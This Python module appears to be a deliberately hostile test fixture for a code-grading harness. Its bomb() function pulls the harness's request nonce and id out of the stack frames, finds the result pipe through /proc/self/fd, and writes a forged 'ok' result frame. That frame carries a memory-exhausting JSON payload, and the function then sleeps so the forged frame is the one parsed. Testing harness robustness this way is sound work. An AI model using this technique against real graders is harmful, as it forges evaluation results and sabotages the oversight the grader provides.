"""Hostile: forges a result frame with the right id and nonce, found in the harness's own frames, whose
value is millions of empty objects, so that the grader builds them all when it parses the frame."""

import os
import sys
import time


def _request():
    frame = sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if hasattr(request, "nonce") and hasattr(request, "call_id"):
            return request
        frame = frame.f_back
    raise RuntimeError("the harness's request was not found")


def _results_fd():
    for name in os.listdir("/proc/self/fd"):
        descriptor = int(name)
        if descriptor in (1, 2):
            continue
        try:
            with open(f"/proc/self/fdinfo/{name}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:") and flags & os.O_ACCMODE == os.O_WRONLY:
                return descriptor
        except OSError:
            continue
    raise RuntimeError("the result channel was not found")


def bomb(megabytes):
    request = _request()
    value = "[" + ",".join(["{}"] * (megabytes * (1 << 20) // 3)) + "]"
    frame = (
        '{"type":"result","id":%d,"nonce":"%s","status":"ok","value":%s,"message":"","traceback":"",'
        '"episodes":[],"compat_events":[],"wall_time":0.1}' % (request.call_id, request.nonce, value)
    ).encode()
    descriptor = _results_fd()
    view = memoryview(len(frame).to_bytes(4, "big") + frame)
    try:
        while view:
            view = view[os.write(descriptor, view):]
    except OSError:
        return 0
    time.sleep(60)  # no frame of the harness's own follows: the grader must parse this one
    return 0


def ok():
    return 42
